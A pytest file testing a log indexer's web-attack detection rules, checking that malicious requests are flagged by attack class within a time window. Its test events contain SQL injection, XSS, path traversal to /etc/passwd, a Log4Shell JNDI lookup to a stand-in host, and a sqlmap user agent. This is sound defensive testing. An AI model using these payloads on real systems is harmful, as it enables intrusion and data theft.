"""Rules of form web: attacks in what an event has of a request."""

import pytest

from .conftest import event

pytest.importorskip("stonelog.indexer.detect.web", reason="the attack patterns are not there")

RULE = 'form = "web"\nby = ["ip_address"]\nwindow = "10m"\n'
SQLI = "/items?id=1' UNION SELECT password FROM users--"


def request(seconds, path="/items/7", **more):
    return event(seconds, category="api", action="read", ip_address="203.0.113.7", path=path, **more)


def test_an_attack_in_the_path_is_found_once_by_class(find):
    """SQL injection in a parameter; the same again within the window brings nothing, another class does."""
    found = find(RULE, [request(1), request(2, SQLI), request(3, SQLI), request(4, "/a?q=<script>alert(1)</script>")])
    assert [each.key["attack"] for each in found] == ["sqli", "xss"]
    assert found[0].seqs == (2,)
    assert found[0].key["ip_address"] == "203.0.113.7"


def test_numbers_at_the_end_of_a_path_change_nothing(find):
    """Of ordinary paths with numbers none is found, of attacks with a number at the end all are."""
    assert find(RULE, [request(n, f"/orders/{n}") for n in range(50)]) == []
    assert [each.key["attack"] for each in find(RULE, [request(1, "/x/../../../../etc/passwd/7")])] == ["traversal"]


def test_the_user_agent_and_parameters_are_looked_at(find):
    """Log4Shell in a user agent, a scanner's name, and a parameter that stands in metadata."""
    found = find(RULE, [request(1, user_agent="${jndi:ldap://203.0.113.9/a}"), request(2, user_agent="sqlmap/1.7")])
    assert {"log4shell", "scanner"} <= {each.key["attack"] for each in found}
    (found,) = find(RULE, [request(1, metadata={"query": {"q": "<script>alert(1)</script>"}})])
    assert found.key["attack"] == "xss"


def test_named_fields_and_classes_narrow_it(find):
    """With `fields` only those are looked at, with `classes` only those are told."""
    note = {"note": {"deep": ["' OR '1'='1' UNION SELECT 1,2--"]}}
    assert find(RULE, [request(1, metadata=note)]) == []
    assert len(find(RULE + 'fields = ["metadata"]\n', [request(1, metadata=note)])) == 1
    assert len(find(RULE + 'fields = ["metadata.note"]\n', [request(1, SQLI, metadata=note)])) == 1
    assert find(RULE + 'classes = ["xss"]\n', [request(1, SQLI)]) == []
